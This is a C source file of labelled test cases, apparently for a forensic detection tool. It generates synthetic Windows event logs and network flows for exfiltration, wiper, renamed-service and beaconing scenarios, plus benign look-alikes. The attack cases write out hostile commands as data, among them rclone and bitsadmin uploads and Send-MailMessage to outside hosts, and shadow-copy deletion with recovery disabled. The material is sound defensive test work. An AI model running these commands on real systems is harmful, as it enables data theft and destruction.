#include "cases.h"

#include "files.h"

#include <string.h>

#define SATO "User=AOMINE\\sato"
#define MIKI "User=AOMINE\\miki-helpdesk"
#define SYSTEM "User=NT AUTHORITY\\SYSTEM"
#define RAN(image, command, parent, user) \
	"ProcessId=4711|Image=" image "|CommandLine=" command "|CurrentDirectory=C:\\Windows\\system32\\|" user \
	"|IntegrityLevel=Medium|ParentImage=" parent
#define MADE(image, file) "Image=" image "|TargetFilename=" file
#define DELETED(image, user, file) "Image=" image "|" user "|TargetFilename=" file
#define CONNECTED(image, user, to, port) \
	"Image=" image "|" user "|Protocol=tcp|Initiated=true|SourceIp=" NETWORK_VICTIM "|SourcePort=50123|" \
	"DestinationIp=" to "|DestinationPort=" port
#define LOGON(type, user, from) \
	"SubjectUserName=-|TargetUserName=" user "|TargetDomainName=AOMINE|TargetLogonId=0x7b21#|LogonType=" type \
	"|LogonProcessName=Kerberos|WorkstationName=-|IpAddress=" from "|IpPort=0"
#define SERVICE(name, path) \
	"ServiceName=" name "|ImagePath=" path "|ServiceType=user mode service|StartType=auto start|AccountName=LocalSystem"
#define EXPLORER "C:\\Windows\\explorer.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define TIWORKER "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack\\TiWorker.exe"
#define SERVICES "C:\\Windows\\System32\\services.exe"
#define POWERSHELL "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define DAY 86400

/* ---- thefts ---- */

/* Every evening a little, to a place that many firms use. */
static const struct story_step rclone_steps[] = {
	{ "2017-03-06T11:40:00Z", LOG_SYSMON, 11, MADE(POWERSHELL, "C:\\ProgramData\\rc\\rclone.exe"), 0, 0, NULL, false },
	{ "2017-03-06T12:05:00Z", LOG_SYSMON, 1, RAN("C:\\ProgramData\\rc\\rclone.exe",
	  "rclone.exe copy D:\\design remote:d --max-transfer 30M --bwlimit 300k -q", CMD, SATO), 4, DAY, NULL, false },
	{ "2017-03-06T12:05:02Z", LOG_SYSMON, 3, CONNECTED("C:\\ProgramData\\rc\\rclone.exe", SATO, "203.0.113.120", "443"),
	  4, DAY, NULL, false },
	{ 0 },
};
static const struct network_flow rclone_flows[] = {
	{ "2017-03-06T12:05:02Z", NETWORK_VICTIM, "203.0.113.120", "g.api.mega.co.nz", 443, 110, 30000000, 200000, 4, DAY, 8 },
	{ 0 },
};

/* Over the drive that a remote desktop client brings along. */
static const struct story_step drive_steps[] = {
	{ "2017-03-08T12:58:00Z", LOG_SECURITY, 4624, LOGON("10", "sato", "203.0.113.61"), 0, 0, NULL, false },
	{ "2017-03-08T13:05:00Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\Robocopy.exe",
	  "robocopy D:\\design \\\\tsclient\\C\\in /E /R:0", CMD, SATO), 0, 0, NULL, false },
	{ 0 },
};
static const struct network_flow drive_flows[] = {
	{ "2017-03-08T12:57:40Z", "203.0.113.61", NETWORK_VICTIM, NULL, 3389, 3600, 9000000, 640000000, 0, 0, 10 },
	{ 0 },
};

/* In pieces by mail, from a shell. */
static const struct story_step mail_steps[] = {
	{ "2017-03-08T13:05:02Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\makecab.exe",
	  "makecab /F C:\\Users\\Public\\l.ddf", CMD, SATO), 0, 0, NULL, false },
	{ "2017-03-08T13:06:30Z", LOG_SYSMON, 11, MADE("C:\\Windows\\System32\\makecab.exe",
	  "C:\\Users\\Public\\d#.cab"), 6, 30, NULL, false },
	{ "2017-03-08T13:20:00Z", LOG_SYSMON, 1, RAN(POWERSHELL,
	  "powershell Send-MailMessage -To x@mail.example.org -Attachments C:\\Users\\Public\\d#.cab -SmtpServer 203.0.113.25",
	  CMD, SATO), 6, 300, NULL, false },
	{ "2017-03-08T13:20:02Z", LOG_SYSMON, 3, CONNECTED(POWERSHELL, SATO, "203.0.113.25", "587"), 6, 300, NULL, false },
	{ 0 },
};
static const struct network_flow mail_flows[] = {
	{ "2017-03-08T13:20:02Z", NETWORK_VICTIM, "203.0.113.25", NULL, 587, 25, 9400000, 6000, 6, 300, 3 },
	{ 0 },
};

/* With what Windows brings along. */
static const struct story_step bits_steps[] = {
	{ "2017-03-08T13:05:02Z", LOG_SYSMON, 1, RAN(POWERSHELL,
	  "powershell Compress-Archive D:\\design C:\\Users\\Public\\Music\\a.zip", CMD, SATO), 0, 0, NULL, false },
	{ "2017-03-08T13:06:30Z", LOG_SYSMON, 11, MADE(POWERSHELL, "C:\\Users\\Public\\Music\\a.zip"), 0, 0, NULL, false },
	{ "2017-03-08T13:30:00Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\bitsadmin.exe",
	  "bitsadmin /transfer up /upload /priority foreground https://203.0.113.88/u/a.zip C:\\Users\\Public\\Music\\a.zip",
	  CMD, SATO), 0, 0, NULL, false },
	{ 0 },
};
static const struct network_flow bits_flows[] = {
	{ "2017-03-08T13:30:02Z", NETWORK_VICTIM, "203.0.113.88", NULL, 443, 300, 88000000, 90000, 0, 0, 5 },
	{ 0 },
};

/* Packed in volumes beside the system's own files, sent, and taken away. */
static const struct story_step volumes_steps[] = {
	{ "2017-03-08T13:05:02Z", LOG_SYSMON, 1, RAN("C:\\Windows\\Temp\\7z.exe",
	  "7z a -v100m -mx1 C:\\Windows\\Temp\\kb4012.7z D:\\design", CMD, SYSTEM), 0, 0, NULL, false },
	{ "2017-03-08T13:06:30Z", LOG_SYSMON, 11, MADE("C:\\Windows\\Temp\\7z.exe",
	  "C:\\Windows\\Temp\\kb4012.7z.00#"), 5, 60, NULL, false },
	{ "2017-03-08T13:30:00Z", LOG_SYSMON, 3, CONNECTED("C:\\Windows\\System32\\rundll32.exe", SYSTEM, "203.0.113.91", "443"),
	  0, 0, NULL, false },
	{ "2017-03-08T14:40:00Z", LOG_SYSMON, 26, DELETED(CMD, SYSTEM, "C:\\Windows\\Temp\\kb4012.7z.00#"), 5, 1, NULL, false },
	{ 0 },
};
static const struct network_flow volumes_flows[] = {
	{ "2017-03-08T13:30:00Z", NETWORK_VICTIM, "203.0.113.91", NULL, 443, 600, 104000000, 150000, 5, 700, 1 },
	{ 0 },
};

/* ---- control and destruction ---- */

/* A tool under the name of a system program, in a folder that no system program has. */
static const struct story_step renamed_steps[] = {
	{ "2017-03-07T01:10:00Z", LOG_SYSMON, 11, MADE(POWERSHELL, "C:\\ProgramData\\Intel\\svchost.exe"), 0, 0, NULL, false },
	{ "2017-03-07T01:11:00Z", LOG_SYSTEM, 7045, SERVICE("IntelAudioHelper", "C:\\ProgramData\\Intel\\svchost.exe"), 0, 0,
	  NULL, false },
	{ "2017-03-07T01:11:02Z", LOG_SYSMON, 1, RAN("C:\\ProgramData\\Intel\\svchost.exe",
	  "C:\\ProgramData\\Intel\\svchost.exe", SERVICES, SYSTEM), 0, 0, NULL, false },
	{ "2017-03-07T01:12:00Z", LOG_SYSMON, 3, CONNECTED("C:\\ProgramData\\Intel\\svchost.exe", SYSTEM, "203.0.113.45", "443"),
	  60, 1800, NULL, false },
	{ 0 },
};

/* Shadow copies first; then it is stopped after three files. */
static const struct story_step three_steps[] = {
	{ "2017-03-09T20:00:10Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\vssadmin.exe",
	  "vssadmin.exe delete shadows /all /quiet", "C:\\PerfLogs\\w.exe", SYSTEM), 0, 0, NULL, false },
	{ "2017-03-09T20:00:12Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\bcdedit.exe",
	  "bcdedit /set {default} recoveryenabled no", "C:\\PerfLogs\\w.exe", SYSTEM), 0, 0, NULL, false },
	{ "2017-03-09T20:00:20Z", LOG_SYSMON, 26, DELETED("C:\\PerfLogs\\w.exe", SYSTEM, "D:\\work\\drawing-000#.dwg"),
	  3, 1, NULL, false },
	{ 0 },
};

/* ---- honest work ---- */

static const struct story_step backup_steps[] = {
	{ "2017-03-05T22:10:00Z", LOG_SYSTEM, 7036, "param1=Aoi Backup Agent|param2=running", 5, DAY, NULL, false },
	{ "2017-03-06T17:00:03Z", LOG_SYSMON, 1, RAN("C:\\Program Files\\Aoi Backup\\agent.exe", "agent.exe --run nightly",
	  SERVICES, SYSTEM), 4, DAY, NULL, false },
	{ "2017-03-06T17:00:05Z", LOG_SYSMON, 3, CONNECTED("C:\\Program Files\\Aoi Backup\\agent.exe", SYSTEM,
	  "192.0.2.210", "443"), 4, DAY, NULL, false },
	{ 0 },
};
static const struct network_flow backup_flows[] = {
	{ "2017-03-05T23:00:05Z", NETWORK_VICTIM, "192.0.2.210", "vault.aoi-backup.example", 443, 7200, 50000000000, 9000000,
	  5, DAY, 5 },
	{ 0 },
};

static const struct story_step helpdesk_steps[] = {
	{ "2017-03-07T01:00:00Z", LOG_SECURITY, 4624, LOGON("3", "miki-helpdesk", "10.20.1.53"), 3, DAY, NULL, false },
	{ "2017-03-07T01:00:04Z", LOG_SYSTEM, 7045, SERVICE("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), 3, DAY, NULL, false },
	{ "2017-03-07T01:00:06Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\gpupdate.exe", "gpupdate /force",
	  "C:\\Windows\\PSEXESVC.exe", MIKI), 3, DAY, NULL, false },
	{ "2017-03-07T02:00:00Z", LOG_SYSMON, 1, RAN("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe",
	  "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\"", EXPLORER, SATO), 0, 0, NULL, false },
	{ "2017-03-07T02:00:03Z", LOG_SYSMON, 3, CONNECTED("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", SATO,
	  "192.0.2.61", "443"), 0, 0, NULL, false },
	{ 0 },
};
static const struct network_flow helpdesk_flows[] = {
	{ "2017-03-07T02:00:03Z", NETWORK_VICTIM, "192.0.2.61", "relay-1.net.anydesk.com", 443, 900, 4000000, 2000000, 0, 0, 5 },
	{ 0 },
};

/* A photo tool gives every picture the date as its name, and one ending. */
static const struct story_step photo_steps[] = {
	{ "2017-03-08T05:00:00Z", LOG_SYSMON, 1, RAN("C:\\Program Files\\PhotoSorter\\sorter.exe", "sorter.exe D:\\photos",
	  EXPLORER, SATO), 0, 0, NULL, false },
	{ 0 },
};

/* The system was set up anew: its logs begin, and the set-up itself emptied them. */
static const struct story_step reinstalled_steps[] = {
	{ "2017-03-05T22:40:00Z", LOG_SYSTEM, 104, "SubjectUserName=SYSTEM|SubjectDomainName=NT AUTHORITY|Channel=System", 0, 0,
	  "Microsoft-Windows-Eventlog", true },
	{ "2017-03-05T22:40:01Z", LOG_SECURITY, 1102,
	  "SubjectUserSid=S-1-5-18|SubjectUserName=SYSTEM|SubjectDomainName=NT AUTHORITY|SubjectLogonId=0x3e7", 0, 0,
	  "Microsoft-Windows-Eventlog", true },
	{ "2017-03-05T22:42:00Z", LOG_SYSTEM, 6011, "=MINWINPC|=DESIGN07", 0, 0, "EventLog", false },
	{ "2017-03-05T22:42:10Z", LOG_SYSTEM, 12, "MajorVersion=10|MinorVersion=0|BuildVersion=14393"
	  "|StartTime=2017-03-05T22:42:05Z",
	  0, 0, "Microsoft-Windows-Kernel-General", false },
	{ 0 },
};

/* Nightly, the oldest snapshot goes: storage is limited. */
static const struct story_step snapshot_steps[] = {
	{ "2017-03-06T17:00:03Z", LOG_SYSMON, 1, RAN("C:\\Program Files\\Aoi Backup\\agent.exe", "agent.exe --run nightly",
	  SERVICES, SYSTEM), 4, DAY, NULL, false },
	{ "2017-03-06T17:20:03Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\vssadmin.exe",
	  "vssadmin delete shadows /for=D: /oldest /quiet", "C:\\Program Files\\Aoi Backup\\agent.exe", SYSTEM),
	  4, DAY, NULL, false },
	{ 0 },
};

/* The battery of the board is empty; the network has the right time. */
static const struct story_step clock_steps[] = {
	{ "2017-03-07T23:02:00Z", LOG_SYSTEM, 1, "NewTime=2017-03-07T23:02:00.000Z|OldTime=2009-01-01T00:02:11.000Z|Reason=1",
	  0, 0,
	  "Microsoft-Windows-Kernel-General", false },
	{ "2017-03-07T23:02:00Z", LOG_SECURITY, 4616, "SubjectUserSid=S-1-5-19|SubjectUserName=LOCAL SERVICE|"
	  "SubjectDomainName=NT AUTHORITY|PreviousTime=2009-01-01T00:02:11.000Z|NewTime=2017-03-07T23:02:00.000Z|"
	  "ProcessName=C:\\Windows\\System32\\svchost.exe", 0, 0, NULL, false },
	{ "2017-03-07T23:02:01Z", LOG_SYSTEM, 35, "TimeSource=ntp.example.net (ntp.m|0x9|192.0.2.123:123)", 0, 0,
	  "Microsoft-Windows-Time-Service", false },
	{ 0 },
};

static const struct story_step update_steps[] = {
	{ "2017-03-07T18:01:00Z", LOG_SYSTEM, 19, "updateTitle=2017-03 Cumulative Update|updateGuid={1}", 0, 0,
	  "Microsoft-Windows-WindowsUpdateClient", false },
	{ "2017-03-07T18:02:00Z", LOG_SYSMON, 1, RAN("C:\\Windows\\servicing\\TrustedInstaller.exe",
	  "C:\\Windows\\servicing\\TrustedInstaller.exe", SERVICES, SYSTEM), 0, 0, NULL, false },
	{ "2017-03-07T18:05:00Z", LOG_SYSTEM, 1074, "param1=C:\\Windows\\system32\\svchost.exe (DESIGN07)|param2=DESIGN07|"
	  "param3=Operating System: Service pack (Planned)|param4=0x80020010|param5=restart|param6=|param7=NT AUTHORITY\\SYSTEM",
	  0, 0, "User32", false },
	{ "2017-03-07T18:05:10Z", LOG_SYSTEM, 7036, "param1=Windows Defender Antivirus Service|param2=stopped",
	  0, 0, NULL, false },
	{ "2017-03-07T18:05:12Z", LOG_SYSTEM, 7036, "param1=Windows Event Log|param2=stopped", 0, 0, NULL, false },
	{ "2017-03-07T18:05:14Z", LOG_SYSTEM, 6006, "", 0, 0, "EventLog", false },
	{ "2017-03-07T18:09:00Z", LOG_SYSTEM, 6005, "", 0, 0, "EventLog", false },
	{ "2017-03-07T18:09:05Z", LOG_SYSTEM, 7036, "param1=Windows Defender Antivirus Service|param2=running",
	  0, 0, NULL, false },
	{ 0 },
};

/* A defender's own programs have names that nobody can read. */
static const struct story_step defender_steps[] = {
	{ "2017-03-06T00:10:00Z", LOG_SYSTEM, 7045, SERVICE("qx7agent", "\"C:\\Program Files\\Qx Endpoint\\qx7agnt64.exe\" -s"),
	  0, 0, NULL, false },
	{ "2017-03-06T00:10:05Z", LOG_SYSTEM, 7045, SERVICE("qx7flt", "\\SystemRoot\\System32\\drivers\\qx7flt.sys"),
	  0, 0, NULL, false },
	{ "2017-03-06T00:10:09Z", LOG_SYSMON, 1, RAN("C:\\Program Files\\Qx Endpoint\\qx7agnt64.exe",
	  "\"C:\\Program Files\\Qx Endpoint\\qx7agnt64.exe\" -s", SERVICES, SYSTEM), 0, 0, NULL, false },
	{ "2017-03-06T00:11:00Z", LOG_SYSMON, 3, CONNECTED("C:\\Program Files\\Qx Endpoint\\qx7agnt64.exe", SYSTEM,
	  "192.0.2.77", "443"), 400, 900, NULL, false },
	{ "2017-03-06T01:00:00Z", LOG_SYSMON, 11, MADE("C:\\Program Files\\Qx Endpoint\\qx7agnt64.exe",
	  "C:\\ProgramData\\Qx Endpoint\\quarantine\\q-#.zip"), 3, 7200, NULL, false },
	{ 0 },
};
static const struct network_flow defender_flows[] = {
	{ "2017-03-05T23:11:00Z", NETWORK_VICTIM, "192.0.2.77", "cloud.qx-endpoint.example", 443, 1, 4100, 1900, 470, 900, 4 },
	{ "2017-03-05T23:12:00Z", "10.20.1.54", "192.0.2.77", "cloud.qx-endpoint.example", 443, 1, 4100, 1900, 470, 900, 4 },
	{ "2017-03-05T23:13:00Z", "10.20.1.55", "192.0.2.77", "cloud.qx-endpoint.example", 443, 1, 4100, 1900, 470, 900, 4 },
	{ 0 },
};

/* ---- what an examiner tried ---- */

/* A little over a megabyte an hour, day and night: no single sending is much. */
static const struct network_flow slow_flows[] = {
	{ "2017-03-05T23:20:00Z", NETWORK_VICTIM, "203.0.113.93", NULL, 443, 20, 1300000, 9000, 118, 3600, 20 },
	{ 0 },
};

/* To a place that everybody uses, by a program that nobody knows. */
static const struct story_step cloud_steps[] = {
	{ "2017-03-08T13:04:00Z", LOG_SYSMON, 1, RAN("C:\\Users\\Public\\Documents\\syncsvc.exe", "syncsvc.exe /s", CMD, SATO),
	  0, 0, NULL, false },
	{ "2017-03-08T13:05:00Z", LOG_SYSMON, 3, CONNECTED("C:\\Users\\Public\\Documents\\syncsvc.exe", SATO,
	  "203.0.113.130", "443"), 0, 0, NULL, false },
	{ 0 },
};
static const struct network_flow cloud_flows[] = {
	{ "2017-03-08T13:05:00Z", NETWORK_VICTIM, "203.0.113.130", "content.dropboxapi.com", 443, 900, 260000000,
	  300000, 0, 0, 5 },
	{ 0 },
};

/* By way of a server inside that may talk to the outside. */
static const struct network_flow relay_flows[] = {
	{ "2017-03-08T12:30:00Z", NETWORK_VICTIM, "10.20.1.53", NULL, 445, 300, 420000000, 900000, 0, 0, 2 },
	{ "2017-03-08T13:30:00Z", "10.20.1.53", "203.0.113.94", NULL, 22, 1200, 425000000, 2100000, 0, 0, 2 },
	{ 0 },
};

/* Every minute and a half, more or less by half of it. */
static const struct network_flow jitter_flows[] = {
	{ "2017-03-06T01:00:00Z", NETWORK_VICTIM, "203.0.113.47", NULL, 443, 0.4, 540, 320, 3600, 90, 50 },
	{ 0 },
};

/* The agent of a firm that looks after the machines, on all of them. */
static const struct story_step agent_steps[] = {
	{ "2017-03-06T00:20:00Z", LOG_SYSTEM, 7045, SERVICE("ScreenConnect Client (a1b2)",
	  "\"C:\\Program Files (x86)\\ScreenConnect Client (a1b2)\\ScreenConnect.ClientService.exe\""), 0, 0, NULL, false },
	{ "2017-03-06T00:20:05Z", LOG_SYSMON, 1, RAN("C:\\Program Files (x86)\\ScreenConnect Client (a1b2)\\"
	  "ScreenConnect.ClientService.exe", "ScreenConnect.ClientService.exe", SERVICES, SYSTEM), 0, 0, NULL, false },
	{ 0 },
};
static const struct network_flow agent_flows[] = {
	{ "2017-03-06T00:20:10Z", NETWORK_VICTIM, "192.0.2.66", "relay.screenconnect.com", 443, 3500, 90000, 70000, 90, 3600, 6 },
	{ "2017-03-06T00:21:10Z", "10.20.1.53", "192.0.2.66", "relay.screenconnect.com", 443, 3500, 90000, 70000, 90, 3600, 6 },
	{ "2017-03-06T00:22:10Z", "10.20.1.54", "192.0.2.66", "relay.screenconnect.com", 443, 3500, 90000, 70000, 90, 3600, 6 },
	{ 0 },
};

/* Packages are fetched and unpacked in temporary folders all day, and work is pushed. */
static const struct story_step developer_steps[] = {
	{ "2017-03-06T01:10:00Z", LOG_SYSMON, 1, RAN("C:\\Program Files\\nodejs\\node.exe", "node npm-cli.js install", CMD, SATO),
	  4, DAY, NULL, false },
	{ "2017-03-06T01:10:09Z", LOG_SYSMON, 11, MADE("C:\\Program Files\\nodejs\\node.exe",
	  "C:\\Users\\sato\\AppData\\Local\\Temp\\npm-2811\\package-#.tgz"), 60, 5, NULL, false },
	{ "2017-03-06T02:00:00Z", LOG_SYSMON, 1, RAN("C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe",
	  "docker build -t app .", CMD, SATO), 4, DAY, NULL, false },
	{ "2017-03-06T03:00:00Z", LOG_SYSMON, 1, RAN("C:\\Program Files\\Git\\cmd\\git.exe", "git push origin main", CMD, SATO),
	  4, DAY, NULL, false },
	{ 0 },
};
static const struct network_flow developer_flows[] = {
	{ "2017-03-06T01:10:03Z", NETWORK_VICTIM, "192.0.2.150", "registry.npmjs.org", 443, 90, 400000, 90000000, 4, DAY, 8 },
	{ "2017-03-06T03:00:02Z", NETWORK_VICTIM, "192.0.2.151", "github.com", 443, 20, 4000000, 90000, 4, DAY, 20 },
	{ 0 },
};

/* A server that takes the copies of all machines at night and sends them to a vault. */
static const struct network_flow vault_flows[] = {
	{ "2017-03-05T23:05:00Z", NETWORK_VICTIM, "10.20.0.9", NULL, 445, 3000, 9000000000, 30000000, 5, DAY, 5 },
	{ "2017-03-05T23:10:00Z", "10.20.1.53", "10.20.0.9", NULL, 445, 3000, 8000000000, 30000000, 5, DAY, 5 },
	{ "2017-03-06T01:00:00Z", "10.20.0.9", "192.0.2.211", "vault.aoi-backup.example", 443, 9000,
	  40000000000, 90000000, 5, DAY, 5 },
	{ 0 },
};

/* The day on which Windows brings itself up to date: packages and old logs become cabinets. */
static const struct story_step servicing_steps[] = {
	{ "2017-03-07T18:02:00Z", LOG_SYSMON, 1, RAN("C:\\Windows\\servicing\\TrustedInstaller.exe",
	  "C:\\Windows\\servicing\\TrustedInstaller.exe", SERVICES, SYSTEM), 0, 0, NULL, false },
	{ "2017-03-07T18:03:00Z", LOG_SYSMON, 11, MADE("C:\\Windows\\System32\\svchost.exe",
	  "C:\\Windows\\SoftwareDistribution\\Download\\windows10.0-kb401#.cab"), 5, 20, NULL, false },
	{ "2017-03-07T18:04:00Z", LOG_SYSMON, 11, MADE(TIWORKER,
	  "C:\\Windows\\Temp\\inflight-#.cab"), 9, 5, NULL, false },
	{ "2017-03-07T18:09:00Z", LOG_SYSMON, 1, RAN("C:\\Windows\\System32\\makecab.exe",
	  "\"C:\\Windows\\system32\\makecab.exe\" C:\\Windows\\Logs\\CBS\\CbsPersist_20170307.log "
	  "C:\\Windows\\Logs\\CBS\\CbsPersist_20170307.cab",
	  TIWORKER, SYSTEM), 0, 0, NULL, false },
	{ "2017-03-07T18:15:00Z", LOG_SYSMON, 26, DELETED(TIWORKER, SYSTEM, "C:\\Windows\\Temp\\inflight-#.cab"),
	  9, 1, NULL, false },
	{ 0 },
};

static const struct labelled_case cases[] = {
	{ .name = "theft-rclone-daily", .steps = rclone_steps, .flows = rclone_flows, .is_daily = true },
	{ .name = "theft-rdp-drive", .steps = drive_steps, .flows = drive_flows },
	{ .name = "theft-mail", .steps = mail_steps, .flows = mail_flows },
	{ .name = "theft-bitsadmin", .steps = bits_steps, .flows = bits_flows },
	{ .name = "theft-volumes", .steps = volumes_steps, .flows = volumes_flows },
	{ .name = "renamed-tool", .steps = renamed_steps },
	{ .name = "wiper-stopped", .steps = three_steps },
	{ .name = "theft-slow", .flows = slow_flows, .is_daily = true },
	{ .name = "theft-cloud", .steps = cloud_steps, .flows = cloud_flows },
	{ .name = "theft-relay", .flows = relay_flows },
	{ .name = "beacon-jitter", .flows = jitter_flows },
	{ .name = "renames-same", .renames = { "2017-03-08T05:00:10Z", "plan-#.dwg", "plan-#.dwg.lk7", 600 } },
	{ .name = "renames-each", .renames = { "2017-03-08T05:00:10Z", "plan-#.dwg", "plan.dwg.x#", 600 } },
	{ .name = "clean-agent", .steps = agent_steps, .flows = agent_flows, .is_daily = true },
	{ .name = "clean-developer", .steps = developer_steps, .flows = developer_flows, .is_daily = true },
	{ .name = "clean-vault", .flows = vault_flows, .is_daily = true },
	{ .name = "clean-servicing", .steps = servicing_steps },
	{ .name = "clean-backup", .steps = backup_steps, .flows = backup_flows, .is_daily = true },
	{ .name = "clean-helpdesk", .steps = helpdesk_steps, .flows = helpdesk_flows, .is_daily = true },
	{ .name = "clean-photos", .steps = photo_steps,
	  .renames = { "2017-03-08T05:00:10Z", "IMG_#.jpeg", "2017-03-08 #.jpg", 3000 } },
	{ .name = "clean-reinstalled", .steps = reinstalled_steps, .first_record = 1, .is_daily = true },
	{ .name = "clean-snapshots", .steps = snapshot_steps, .is_daily = true },
	{ .name = "clean-clock", .steps = clock_steps },
	{ .name = "clean-update", .steps = update_steps },
	{ .name = "clean-defender", .steps = defender_steps, .flows = defender_flows, .is_daily = true },
};
#define CASES (sizeof cases / sizeof *cases)

const struct labelled_case *case_named(const char *name)
{
	for (size_t i = 0; i < CASES; i++)
		if (!strcmp(cases[i].name, name))
			return &cases[i];
	return NULL;
}

void case_names(FILE *to)
{
	for (size_t i = 0; i < CASES; i++)
		fprintf(to, "%s%s", cases[i].name, i + 1 < CASES ? ", " : "\n");
}

/* ---- change journal ---- */

static void put_name(struct buf *to, const char *pattern, unsigned number)
{
	char text[80];
	const char *mark = strchr(pattern, '#');

	snprintf(text, sizeof text, "%.*s%04u%s", (int)(mark - pattern), pattern, number, mark + 1);
	for (const char *c = text; *c; c++)
		buf_add_u16le(to, (uint8_t)*c);
}

/* Version 2 of Microsoft's USN_RECORD; the folder is record 40. */
static void put_record(struct buf *to, uint64_t file, timestamp time, uint32_t reasons, const char *pattern, unsigned number)
{
	struct buf name = buf_new(256);
	size_t from = to->len, len;

	put_name(&name, pattern, number);
	len = (60 + name.len + 7) & ~(size_t)7;
	buf_add_u32le(to, (uint32_t)len);
	buf_add_u32le(to, 2);
	buf_add_u64le(to, file);
	buf_add_u64le(to, UINT64_C(0x0001000000000028));
	buf_add_u64le(to, from);
	buf_add_u64le(to, (uint64_t)(time / 100) + UINT64_C(116444736000000000));
	buf_add_u32le(to, reasons);
	buf_add_u64le(to, 0);
	buf_add_u32le(to, 0x20);
	buf_add_u16le(to, (uint16_t)name.len);
	buf_add_u16le(to, 60);
	buf_add(to, buf_span(&name));
	while (to->len < from + len)
		buf_add_u8(to, 0);
	buf_free(&name);
}

void case_put_journal(const char *root, const struct case_renames *r, int64_t moved_seconds)
{
	struct buf journal = buf_new((size_t)4 << 20);
	timestamp start = 0;

	timestamp_parse(span_text(r->when), &start);
	for (unsigned i = 0; i < r->count; i++) {
		timestamp t = start + moved_seconds * TIME_SECOND + (timestamp)i * (TIME_SECOND / 20);
		uint64_t file = UINT64_C(0x0001000000000000) + 1000 + i;

		put_record(&journal, file, t, 0x1000, r->from, i);
		put_record(&journal, file, t, 0x80002000, r->to, i);
	}
	put_file(root, "DESIGN07/D/$Extend/$J", buf_span(&journal));
	buf_free(&journal);
}
